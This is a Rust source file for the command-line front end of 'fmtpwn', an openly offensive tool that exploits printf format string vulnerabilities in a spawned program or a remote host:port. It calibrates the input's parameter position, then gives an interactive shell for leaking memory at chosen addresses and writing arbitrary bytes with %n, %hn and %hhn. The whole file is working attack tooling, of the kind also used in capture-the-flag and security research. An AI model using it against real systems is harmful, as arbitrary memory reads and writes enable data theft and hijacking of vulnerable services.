#[cfg(not(unix))]
fn main() {
    eprintln!("fmtpwn requires a Unix host (pipes and poll). This binary was built for another target.");
    std::process::exit(1);
}

#[cfg(unix)]
fn main() -> anyhow::Result<()> {
    cli::run()
}

#[cfg(unix)]
mod cli {
    use std::net::TcpStream;
    use std::path::PathBuf;

    use clap::Parser;
    use colored::Colorize;
    use rustyline::DefaultEditor;

    use fmtpwn::channel::{Channel, StreamChannel};
    use fmtpwn::config::{Config, DEFAULT_MAX_NUM_PARAMS, DEFAULT_MAX_WRITE};
    use fmtpwn::exit::OrExit;
    use fmtpwn::fmtstr::{FormatStringInfo, Specifier, DEFAULT_TERMINATOR};
    use fmtpwn::leak::Leaker;
    use fmtpwn::pointer::{Endian, Pointer};
    use fmtpwn::tube::{Tube, DEFAULT_TIMEOUT_MS};
    use fmtpwn::write::Writer;

    #[derive(Parser)]
    #[command(
        name = "fmtpwn",
        about = "Calibrated read/write primitives over a printf format string bug"
    )]
    struct Cli {
        /// Program echoing its input through printf
        program: Option<PathBuf>,

        /// Connect to host:port instead of spawning a program
        #[arg(short = 'c', long = "connect")]
        connect: Option<String>,

        /// Target pointer size in bytes (4 or 8)
        #[arg(long, default_value_t = 8)]
        pointer_size: usize,

        /// Target is big-endian
        #[arg(long)]
        big_endian: bool,

        /// Number of parameter indices probed during calibration
        #[arg(long, default_value_t = DEFAULT_MAX_NUM_PARAMS)]
        max_params: usize,

        /// Largest value a single %n write may produce
        #[arg(long, default_value_t = DEFAULT_MAX_WRITE)]
        max_write: usize,

        /// Token printed around each leaked value
        #[arg(long, default_value = "|")]
        separator: String,

        /// Token marking the end of each reply
        #[arg(long, default_value_t = String::from_utf8_lossy(DEFAULT_TERMINATOR).into_owned())]
        terminator: String,

        /// Leak parameters with %p instead of %s
        #[arg(long)]
        raw_params: bool,

        /// Read timeout for a spawned program, in milliseconds
        #[arg(long, default_value_t = DEFAULT_TIMEOUT_MS)]
        timeout_ms: u64,

        /// Log calibration (-v) and every payload (-vv)
        #[arg(short, long, action = clap::ArgAction::Count)]
        verbose: u8,

        /// Arguments to pass to the program
        #[arg(trailing_var_arg = true)]
        args: Vec<String>,
    }

    struct Session {
        chan: Box<dyn Channel>,
        leaker: Leaker,
        writer: Writer,
    }

    pub fn run() -> anyhow::Result<()> {
        let cli = Cli::parse();
        init_logging(cli.verbose);

        let config = Config {
            max_num_params: cli.max_params,
            pointer_size: cli.pointer_size,
            endian: if cli.big_endian { Endian::Big } else { Endian::Little },
            max_write: cli.max_write,
            verbose: cli.verbose > 1,
        };
        config.validate().or_exit("configuration");
        let specifier = if cli.raw_params {
            Specifier::Pointer
        } else {
            Specifier::String
        };
        let info = FormatStringInfo::new(
            cli.separator.as_bytes(),
            cli.terminator.as_bytes(),
            specifier,
        )
        .or_exit("format string setup");

        let mut chan = open_channel(&cli)?;
        let leaker = Leaker::new(&mut chan, config, info).or_exit("calibration");
        let writer = Writer::from_leaker(&leaker).or_exit("write layout");
        println!(
            "{} input at parameter {} (template {} bytes)",
            "fmtpwn".bold().cyan(),
            leaker.calibration().param().to_string().green(),
            leaker.calibration().aligned_len(),
        );
        println!(
            "  writes use parameter {} (template {} bytes)",
            writer.calibration().param(),
            writer.calibration().aligned_len(),
        );

        let mut session = Session {
            chan,
            leaker,
            writer,
        };
        let mut rl = DefaultEditor::new()?;

        loop {
            let prompt = format!("{} ", "fmtpwn>".bold().green());
            let line = match rl.readline(&prompt) {
                Ok(line) => line,
                Err(
                    rustyline::error::ReadlineError::Interrupted
                    | rustyline::error::ReadlineError::Eof,
                ) => {
                    break;
                }
                Err(e) => {
                    eprintln!("readline error: {}", e);
                    break;
                }
            };

            let line = line.trim();
            if line.is_empty() {
                continue;
            }
            rl.add_history_entry(line)?;

            let parts: Vec<&str> = line.split_whitespace().collect();
            let cmd = parts[0];
            let args = &parts[1..];
            if matches!(cmd, "quit" | "q" | "exit") {
                break;
            }

            if let Err(e) = handle_command(&mut session, cmd, args) {
                eprintln!("{}: {}", "error".red(), e);
            }
        }

        Ok(())
    }

    fn init_logging(verbosity: u8) {
        let default = match verbosity {
            0 => "warn",
            1 => "info",
            _ => "debug",
        };
        env_logger::Builder::from_env(env_logger::Env::default().default_filter_or(default)).init();
    }

    fn open_channel(cli: &Cli) -> anyhow::Result<Box<dyn Channel>> {
        if let Some(addr) = &cli.connect {
            let stream = TcpStream::connect(addr)
                .map_err(|e| anyhow::anyhow!("connect to {}: {}", addr, e))?;
            println!("{} connected to {}", "fmtpwn".bold().cyan(), addr);
            return Ok(Box::new(StreamChannel::new(stream)));
        }
        let Some(program) = &cli.program else {
            eprintln!("error: provide a program to exploit or use --connect <host:port>");
            std::process::exit(2);
        };
        let args: Vec<&str> = cli.args.iter().map(|s| s.as_str()).collect();
        let mut tube = Tube::spawn(program, &args)
            .map_err(|e| anyhow::anyhow!("spawn {}: {}", program.display(), e))?;
        tube.set_timeout_ms(cli.timeout_ms);
        println!(
            "{} launched process {} ({})",
            "fmtpwn".bold().cyan(),
            tube.pid().unwrap_or_default(),
            program.display()
        );
        Ok(Box::new(tube))
    }

    fn handle_command(s: &mut Session, cmd: &str, args: &[&str]) -> anyhow::Result<()> {
        match cmd {
            "leak" | "x" => cmd_leak(s, args),
            "param" | "p" => cmd_param(s, args),
            "find" => cmd_find(s, args),
            "write1" | "w1" => cmd_write(s, args, 1),
            "write2" | "w2" => cmd_write(s, args, 2),
            "write4" | "w4" => cmd_write(s, args, 4),
            "poke" => cmd_poke(s, args),
            "info" | "i" => cmd_info(s),
            "help" | "h" => cmd_help(),
            _ => {
                println!(
                    "unknown command: {}. Type 'help' for available commands.",
                    cmd
                );
                Ok(())
            }
        }
    }

    fn cmd_leak(s: &mut Session, args: &[&str]) -> anyhow::Result<()> {
        if args.is_empty() {
            println!("usage: leak <address> [length]");
            return Ok(());
        }
        let ptr = parse_pointer(&s.leaker, args[0])?;
        match args.get(1) {
            Some(len) => {
                let len = parse_number(len)? as usize;
                let data = s.leaker.read_bytes(&mut s.chan, &ptr, len)?;
                print_hexdump(ptr.uint(), &data);
            }
            None => {
                let data = s.leaker.memory_at(&mut s.chan, &ptr)?;
                println!(
                    "  {}: \"{}\" ({} bytes)",
                    ptr.to_string().cyan(),
                    data.escape_ascii(),
                    data.len()
                );
            }
        }
        Ok(())
    }

    fn cmd_param(s: &mut Session, args: &[&str]) -> anyhow::Result<()> {
        let Some(index) = args.first() else {
            println!("usage: param <index>");
            return Ok(());
        };
        let index = parse_number(index)? as usize;
        let data = s.leaker.memory_at_param(&mut s.chan, index)?;
        println!("  %{}$ = \"{}\"", index, data.escape_ascii());
        Ok(())
    }

    fn cmd_find(s: &mut Session, args: &[&str]) -> anyhow::Result<()> {
        if args.is_empty() {
            println!("usage: find <hex_bytes>");
            return Ok(());
        }
        let needle = parse_hex_bytes(&args.join(""))?;
        match s.leaker.find_param_number(&mut s.chan, &needle)? {
            Some(index) => println!("  found at parameter {}", index.to_string().green()),
            None => println!("  {}", "not found".yellow()),
        }
        Ok(())
    }

    fn cmd_write(s: &mut Session, args: &[&str], width: usize) -> anyhow::Result<()> {
        if args.len() < 2 {
            println!("usage: write{} <value> <address>", width);
            return Ok(());
        }
        let value = parse_number(args[0])? as usize;
        let ptr = parse_pointer(&s.leaker, args[1])?;
        match width {
            1 => s.writer.write_lowest_byte_at(&mut s.chan, value, &ptr)?,
            2 => s.writer.write_lower_2_bytes_at(&mut s.chan, value, &ptr)?,
            _ => s.writer.write_lower_4_bytes_at(&mut s.chan, value, &ptr)?,
        }
        println!(
            "  wrote {} into the low {} byte(s) at {}",
            value,
            width,
            ptr.to_string().cyan()
        );
        Ok(())
    }

    fn cmd_poke(s: &mut Session, args: &[&str]) -> anyhow::Result<()> {
        if args.len() < 2 {
            println!("usage: poke <address> <hex_bytes>");
            return Ok(());
        }
        let ptr = parse_pointer(&s.leaker, args[0])?;
        let bytes = parse_hex_bytes(&args[1..].join(""))?;
        s.writer.write_bytes_at(&mut s.chan, &ptr, &bytes)?;
        println!(
            "  wrote {} byte(s) at {}",
            bytes.len(),
            ptr.to_string().cyan()
        );
        Ok(())
    }

    fn cmd_info(s: &Session) -> anyhow::Result<()> {
        let config = s.leaker.config();
        println!(
            "  pointer size {} ({:?}), max params {}, max write {}",
            config.pointer_size, config.endian, config.max_num_params, config.max_write
        );
        for (name, cal) in [
            ("read", s.leaker.calibration()),
            ("write", s.writer.calibration()),
        ] {
            println!(
                "  {:>5}: parameter {:>4}  {}",
                name.bold(),
                cal.param(),
                cal.template().escape_ascii()
            );
        }
        Ok(())
    }

    fn cmd_help() -> anyhow::Result<()> {
        println!("{}", "Commands:".bold());
        println!("  leak <addr> [len]       Leak the string at addr, or exactly len bytes");
        println!("  param <index>           Leak variadic argument <index>");
        println!("  find <hex>              Find the argument whose leak equals <hex>");
        println!("  write1 <value> <addr>   %hhn: store value into the lowest byte");
        println!("  write2 <value> <addr>   %hn: store value into the lower 2 bytes");
        println!("  write4 <value> <addr>   %n: store value into the lower 4 bytes");
        println!("  poke <addr> <hex>       Write a byte string, one %hhn per byte");
        println!("  info                    Show the calibrated templates");
        println!("  help                    Show this help");
        println!("  quit                    Exit");
        Ok(())
    }

    fn print_hexdump(base: u64, data: &[u8]) {
        for (i, chunk) in data.chunks(16).enumerate() {
            let addr = base.wrapping_add((i * 16) as u64);
            print!("  {:016x}  ", addr);
            for (j, byte) in chunk.iter().enumerate() {
                if j == 8 {
                    print!(" ");
                }
                print!("{:02x} ", byte);
            }
            for j in chunk.len()..16 {
                if j == 8 {
                    print!(" ");
                }
                print!("   ");
            }
            print!(" |");
            for byte in chunk {
                if byte.is_ascii_graphic() || *byte == b' ' {
                    print!("{}", *byte as char);
                } else {
                    print!(".");
                }
            }
            println!("|");
        }
    }

    fn parse_pointer(leaker: &Leaker, s: &str) -> anyhow::Result<Pointer> {
        Ok(leaker.pointer_maker().parse_hex(s)?)
    }

    /// Decimal, or hex with a 0x prefix.
    fn parse_number(s: &str) -> anyhow::Result<u64> {
        let parsed = match s.strip_prefix("0x") {
            Some(hex) => u64::from_str_radix(hex, 16),
            None => s.parse(),
        };
        parsed.map_err(|e| anyhow::anyhow!("invalid number '{}': {}", s, e))
    }

    /// Parse a hex string like "90909090" or "\x41\x42" into bytes.
    fn parse_hex_bytes(s: &str) -> anyhow::Result<Vec<u8>> {
        let s = s.strip_prefix("0x").unwrap_or(s);
        let clean: String = s
            .replace("\\x", "")
            .replace(' ', "")
            .replace(':', "");

        if clean.len() % 2 != 0 {
            return Err(anyhow::anyhow!(
                "hex string must have even number of digits, got {}",
                clean.len()
            ));
        }

        clean
            .as_bytes()
            .chunks(2)
            .map(|chunk| {
                let hex = std::str::from_utf8(chunk)
                    .map_err(|_| anyhow::anyhow!("invalid hex string"))?;
                u8::from_str_radix(hex, 16)
                    .map_err(|_| anyhow::anyhow!("invalid hex byte: '{}'", hex))
            })
            .collect()
    }
}
